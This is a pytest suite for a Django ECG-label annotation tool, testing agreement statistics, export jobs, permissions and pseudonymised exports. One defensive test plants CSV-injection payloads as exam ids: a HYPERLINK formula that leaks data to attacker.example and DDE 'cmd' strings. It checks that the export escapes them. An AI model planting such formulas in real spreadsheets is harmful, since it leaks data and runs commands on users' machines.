"""Agreement and export jobs, run inline: right numbers, right files, no identifiers."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import numpy as np
import pytest
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient
from sklearn.metrics import cohen_kappa_score

from annotator import agreement, exports, services
from annotator.models import Exam, Job, PatientLink
from annotator.taxonomy import DEFAULT_TAXONOMY_NAME, DEFAULT_TAXONOMY_VERSION
from tests import factories

CODES = ["SR", "AF", "RBBB", "LBBB", "NORM"]


@pytest.fixture(autouse=True)
def _run_queued_jobs(monkeypatch, django_capture_on_commit_callbacks, inline_tasks):
    """Jobs are queued once their transaction commits; the test's transaction never
    commits, so each start runs its callbacks as the start returns."""
    from annotator.services import jobs

    original = jobs.start_job

    def start_and_run(**kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            return original(**kwargs)

    monkeypatch.setattr(jobs, "start_job", start_and_run)


@pytest.fixture
def study(cast):
    """30 exams read by three readers with planned disagreements; two adjudicated."""
    reader3 = factories.make_user("reader3", "reader")
    readers = [cast.reader1, cast.reader2, reader3]
    exams = factories.make_exams(30)
    for i, exam in enumerate(exams):
        PatientLink.objects.create(
            dataset="test",
            source_patient_id=f"MRN-{90000 + i}",
            pseudonym=exam.patient_pseudonym,
        )
    campaign = services.create_campaign(
        name="Study",
        taxonomy=factories.default_taxonomy(),
        exams=exams,
        readers=readers,
        adjudicators=[cast.adjudicator],
        readers_per_exam=3,
        created_by=cast.manager,
    )
    rng = np.random.default_rng(7)
    truth = rng.random((30, len(CODES))) < [0.7, 0.2, 0.1, 0.05, 0.3]
    truth[:, 0] &= ~truth[:, 1]  # SR and AF are exclusive
    reads = {}
    for e, exam in enumerate(exams):
        for j, reader in enumerate(readers):
            labels = {c for c, yes in zip(CODES, truth[e], strict=True) if yes}
            flip = rng.random(len(CODES)) < 0.12
            for code, f in zip(CODES, flip, strict=True):
                if f and code not in {"SR", "AF"}:
                    labels ^= {code}
            if e % 10 == 3 and j == 2:  # a clear-cut rhythm disagreement
                labels = (labels - {"SR"}) | {"AF"} if "SR" in labels else labels
            if labels - {"SR", "NORM"}:
                labels.discard("NORM")  # a normal ECG has no other finding
            services.record_reading(
                campaign=campaign, exam=exam, reader=reader, labels=sorted(labels)
            )
            reads[(exam.pk, reader.username)] = labels
    queue = campaign.exam_links.filter(consensus_state="needs_adjudication")
    for link in list(queue)[:2]:
        services.adjudicate(
            campaign=campaign,
            exam=link.exam,
            adjudicator=cast.adjudicator,
            labels=["SR"],
        )
    return {
        "campaign": campaign,
        "exams": exams,
        "reads": reads,
        "readers": sorted(r.username for r in readers),
    }


def tensor(study) -> np.ndarray:
    """The readings tensor, built here independently of the job code."""
    codes = study["campaign"].taxonomy.codes()
    r = np.zeros((len(study["exams"]), 3, len(codes)), dtype=np.int8)
    for e, exam in enumerate(study["exams"]):
        for j, name in enumerate(study["readers"]):
            for code in study["reads"][(exam.pk, name)]:
                r[e, j, codes.index(code)] = 1
    return r


def manager_client(cast) -> APIClient:
    client = APIClient()
    token = Token.objects.get_or_create(user=cast.manager)[0]
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    return client


def test_agreement_job_report_matches_the_reference_libraries(study, cast):
    client = manager_client(cast)
    response = client.post(
        f"/api/campaigns/{study['campaign'].pk}/agreement/",
        {"bootstrap": 50},
        format="json",
    )
    assert response.status_code == 202, response.content
    job = Job.objects.get(pk=response.json()["id"])
    assert (job.status, job.progress) == ("succeeded", 100), job.error
    report = job.result
    assert report["campaign"] == "Study" and report["n_exams"] == 30
    assert report["readers"] == ["reader1", "reader2", "reader3"]
    r = tensor(study)
    codes = study["campaign"].taxonomy.codes()
    for code in ("RBBB", "NORM"):
        k = codes.index(code)
        expected = cohen_kappa_score(r[:, 0, k], r[:, 1, k])
        got = report["classes"][code]["cohen_kappa"]["reader1|reader2"]
        assert got == pytest.approx(expected, abs=1e-9)
        low, high = report["classes"][code]["ci95"]["fleiss_kappa"]
        assert low <= report["classes"][code]["fleiss_kappa"] <= high
    assert report["classes"]["DIG"]["fleiss_kappa"] is None  # nobody chose it
    assert "no positive reads" in report["classes"]["DIG"]["undefined"]["fleiss_kappa"]
    assert set(report["reader_stats"]) == {"reader1", "reader2", "reader3"}
    download = client.get(f"/api/jobs/{job.pk}/download/")
    assert json.loads(b"".join(download.streaming_content)) == report


def test_chunked_job_equals_the_unchunked_computation(study, cast):
    campaign = study["campaign"]
    small = services_job(campaign, cast, chunk_size=7, bootstrap=30)
    whole = services_job(campaign, cast, chunk_size=100000, bootstrap=30)
    assert small.params["plan"]["chunks"] != whole.params["plan"]["chunks"]
    assert small.result == whole.result
    direct = agreement.report(
        agreement.count_chunk(tensor(study)),
        class_codes=campaign.taxonomy.codes(),
        reader_names=study["readers"],
    )
    assert small.result["classes"]["RBBB"]["fleiss_kappa"] == pytest.approx(
        direct["classes"]["RBBB"]["fleiss_kappa"], abs=1e-12
    )


def services_job(campaign, cast, **params) -> Job:
    job = services.start_agreement_job(campaign=campaign, user=cast.manager, **params)
    job.refresh_from_db()
    assert job.status == "succeeded", job.error
    return job


def test_agreement_command_prints_only_the_report(study, capsys):
    call_command("agreement", "--campaign", "Study", "--bootstrap", "20")
    out = capsys.readouterr().out
    report = json.loads(out)
    assert report["campaign"] == "Study" and report["bootstrap"] == 20
    assert set(report["classes"]) == set(study["campaign"].taxonomy.codes())
    assert "NaN" not in out


def test_agreement_job_without_reads_fails_with_a_reason(cast):
    campaign = factories.make_campaign(cast, factories.make_exams(2))
    response = manager_client(cast).post(
        f"/api/campaigns/{campaign.pk}/agreement/", {}, format="json"
    )
    job = Job.objects.get(pk=response.json()["id"])
    assert job.status == "failed"
    assert "no submitted reads" in job.error


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_csv_export_has_one_row_per_resolved_exam_and_a_true_manifest(study, tmp_path):
    out = tmp_path / "labels.csv"
    call_command(
        "export_labels", "--campaign", "Study", "--format", "csv", "--out", str(out)
    )
    data = out.read_bytes()
    rows = read_csv(data)
    campaign = study["campaign"]
    resolved = campaign.exam_links.exclude(
        consensus_state__in=["pending", "needs_adjudication"]
    )
    assert len(rows) == resolved.count() > 0
    header = list(rows[0])
    assert header == [
        "exam_id",
        "patient_pseudonym",
        *campaign.taxonomy.codes(),
        "consensus_method",
    ]
    for row in rows:
        link = resolved.get(exam__exam_id=row["exam_id"])
        chosen = {c for c in campaign.taxonomy.codes() if row[c] == "1"}
        assert chosen == set(link.consensus_labels)
        assert row["consensus_method"] == link.consensus_state
    manifest = json.loads((tmp_path / "labels.csv.manifest.json").read_text())
    assert manifest["rows"] == len(rows)
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    snomed = {c["code"]: c["snomed_ct"] for c in manifest["taxonomy"]["classes"]}
    assert snomed["AF"] == "164889003"
    assert manifest["excluded_without_consensus"].get("needs_adjudication", 0) >= 0


def test_exports_are_reproducible_and_carry_no_identifier(study, tmp_path):
    digests = []
    for name in ("a.jsonl", "b.jsonl"):
        call_command(
            "export_labels",
            "--campaign",
            "Study",
            "--format",
            "jsonl",
            "--out",
            str(tmp_path / name),
            "--include-unresolved",
        )
        digests.append(hashlib.sha256((tmp_path / name).read_bytes()).hexdigest())
    assert digests[0] == digests[1]
    text = (tmp_path / "a.jsonl").read_text()
    manifest = (tmp_path / "a.jsonl.manifest.json").read_text()
    assert "MRN-" not in text and "MRN-" not in manifest
    records = [json.loads(line) for line in text.splitlines()]
    assert len(records) == 30
    adjudicated = [r for r in records if r["consensus"]["method"] == "adjudicated"]
    assert len(adjudicated) == 2
    assert adjudicated[0]["adjudication"]["adjudicator"] == "adjudicator"
    assert adjudicated[0]["consensus"]["labels"] == ["SR"]
    assert {r["reader"] for r in records[0]["readers"]} == set(study["readers"])
    assert records[0]["taxonomy"] == {
        "name": DEFAULT_TAXONOMY_NAME,
        "version": DEFAULT_TAXONOMY_VERSION,
    }
    unresolved = [
        r for r in records if r["consensus"]["method"] == "needs_adjudication"
    ]
    assert all(r["consensus"]["labels"] is None for r in unresolved)


def test_export_job_output_equals_the_command_output(study, cast, tmp_path):
    client = manager_client(cast)
    response = client.post(
        f"/api/campaigns/{study['campaign'].pk}/exports/",
        {"format": "csv"},
        format="json",
    )
    assert response.status_code == 202
    job = Job.objects.get(pk=response.json()["id"])
    assert job.status == "succeeded", job.error
    served = b"".join(client.get(f"/api/jobs/{job.pk}/download/").streaming_content)
    study_csv(tmp_path / "cli.csv")
    assert served == (tmp_path / "cli.csv").read_bytes()
    assert job.output_sha256 == hashlib.sha256(served).hexdigest()
    manifest = client.get(f"/api/jobs/{job.pk}/download/?file=manifest")
    assert (
        json.loads(b"".join(manifest.streaming_content))["sha256"] == job.output_sha256
    )


@pytest.mark.parametrize(
    ("route", "body", "message"),
    [
        ("agreement", {"bootstrap": -1}, "greater than or equal to 0"),
        ("exports", {"format": "xml"}, "is not a valid choice"),
    ],
)
def test_bad_job_parameters_are_refused(study, cast, route, body, message):
    response = manager_client(cast).post(
        f"/api/campaigns/{study['campaign'].pk}/{route}/", body, format="json"
    )
    assert response.status_code == 400 and message in str(response.json())
    assert not Job.objects.exists()


def test_only_managers_start_and_see_jobs(study, cast):
    for role in ("reader1", "adjudicator", "outsider"):
        client = APIClient()
        client.force_authenticate(getattr(cast, role))
        pk = study["campaign"].pk
        assert client.post(f"/api/campaigns/{pk}/agreement/", {}).status_code == 403
        assert client.post(f"/api/campaigns/{pk}/exports/", {}).status_code == 403
        assert client.get("/api/jobs/").status_code == 403
    assert not Job.objects.exists()


def test_job_lists_carry_a_summary_and_the_detail_the_report(study, cast):
    client = manager_client(cast)
    client.post(
        f"/api/campaigns/{study['campaign'].pk}/agreement/",
        {"bootstrap": 0},
        format="json",
    )
    listed = client.get("/api/jobs/?kind=agreement&page_size=1").json()
    assert listed["count"] == 1 and "result" not in listed["results"][0]
    assert listed["results"][0]["summary"] == {
        "n_exams": 30,
        "n_readers": 3,
        "bootstrap": 0,
    }
    detail = client.get(f"/api/jobs/{listed['results'][0]['id']}/").json()
    assert detail["result"]["classes"]["AF"]["n_positive_reads"] > 0


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(cast, tmp_path):
    """OWASP CSV injection: exam ids that start like a formula get a leading
    quote, so a spreadsheet shows them as text; the JSONL keeps them as they are."""
    planted = [
        '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1",
        "plain-id",
    ]
    exams = [factories.make_exam(exam_id) for exam_id in planted]
    campaign = factories.make_campaign(cast, exams, name="Planted")
    for _exam in exams:
        for reader in (cast.reader1, cast.reader2):
            claim = services.claim_next(campaign=campaign, reader=reader)
            services.submit_decision(assignment=claim, reader=reader, labels=["SR"])
    out = tmp_path / "labels.csv"
    call_command(
        "export_labels", "--campaign", "Planted", "--format", "csv", "--out", str(out)
    )
    cells = {row["exam_id"] for row in read_csv(out.read_bytes())}
    assert cells == {"'" + e for e in planted[:-1]} | {"plain-id"}
    assert not [c for c in cells if c[:1] in "=+-@\t\r"]
    jsonl = tmp_path / "labels.jsonl"
    call_command(
        "export_labels",
        "--campaign",
        "Planted",
        "--format",
        "jsonl",
        "--out",
        str(jsonl),
    )
    ids = {json.loads(line)["exam_id"] for line in jsonl.read_text().splitlines()}
    assert ids == set(planted)


@pytest.mark.parametrize("seed", [-1, 2**32, 10**30])
def test_an_agreement_seed_out_of_range_is_refused_before_any_job(
    study, cast, seed, capsys
):
    campaign = study["campaign"]
    before = Job.objects.count()
    response = manager_client(cast).post(
        f"/api/campaigns/{campaign.pk}/agreement/", {"seed": seed}, format="json"
    )
    assert response.status_code == 400
    assert "seed" in response.json()
    with pytest.raises(ValueError, match="seed must be between 0 and 4294967295"):
        services.start_agreement_job(campaign=campaign, user=cast.manager, seed=seed)
    with pytest.raises(CommandError, match="seed must be between"):
        call_command("agreement", "--campaign", "Study", "--seed", str(seed))
    assert Job.objects.count() == before


def test_the_largest_seed_gives_a_report(study, cast):
    job = services_job(study["campaign"], cast, bootstrap=5, seed=2**32 - 1)
    assert job.result["seed"] == 2**32 - 1


def study_csv(path, *flags: str) -> None:
    """The Study campaign's CSV export, by the command."""
    call_command(
        "export_labels",
        "--campaign",
        "Study",
        "--format",
        "csv",
        "--out",
        str(path),
        *flags,
    )


def test_a_pseudonymous_export_shares_no_source_exam_id(
    study, cast, tmp_path, settings
):
    """Exports keep the source exam_id by default (to join labels to one's own
    files); ``--pseudonymous`` writes keyed pseudonyms for sharing outside."""
    campaign = study["campaign"]
    source_ids = set(campaign.exam_links.values_list("exam__exam_id", flat=True))
    plain = tmp_path / "plain.csv"
    shared = tmp_path / "shared.csv"
    study_csv(plain)
    study_csv(shared, "--pseudonymous")
    plain_ids = [row["exam_id"] for row in read_csv(plain.read_bytes())]
    shared_rows = read_csv(shared.read_bytes())
    assert set(plain_ids) <= source_ids
    pseudonyms = [row["exam_id"] for row in shared_rows]
    assert not set(pseudonyms) & source_ids
    assert not any(s in shared.read_text() for s in source_ids)
    expected = {
        exports.exam_pseudonym(e.dataset, e.exam_id): e.exam_id
        for e in Exam.objects.filter(exam_id__in=plain_ids)
    }
    assert [expected[p] for p in pseudonyms] == plain_ids  # same rows, same order
    manifest = json.loads((tmp_path / "shared.csv.manifest.json").read_text())
    assert manifest["exam_ids"].startswith("keyed pseudonyms")
    again = tmp_path / "again.csv"
    study_csv(again, "--pseudonymous")
    assert again.read_bytes() == shared.read_bytes()  # stable across exports
    settings.ANNOTATOR_EXAM_PSEUDONYM_KEY = "another deployment's key"
    assert exports.exam_pseudonym("test", plain_ids[0]) != pseudonyms[0]


def test_the_api_starts_a_pseudonymous_jsonl_export(study, cast):
    campaign = study["campaign"]
    response = manager_client(cast).post(
        f"/api/campaigns/{campaign.pk}/exports/",
        {"format": "jsonl", "pseudonymous": True},
        format="json",
    )
    assert response.status_code == 202
    job = Job.objects.get(pk=response.json()["id"])
    assert job.status == "succeeded" and job.params["pseudonymous"] is True
    with default_storage.open(job.output_key) as handle:
        records = [json.loads(line) for line in handle.read().decode().splitlines()]
    source_ids = set(campaign.exam_links.values_list("exam__exam_id", flat=True))
    assert records and not {r["exam_id"] for r in records} & source_ids


def test_managers_see_the_mapping_of_export_pseudonyms(study, cast, client):
    cast.manager.is_staff = True
    cast.manager.save(update_fields=["is_staff"])
    client.force_login(cast.manager)
    exam = study["campaign"].exam_links.first().exam
    page = client.get("/admin/annotator/exam/", {"q": exam.exam_id})
    assert exports.exam_pseudonym(exam.dataset, exam.exam_id).encode() in page.content
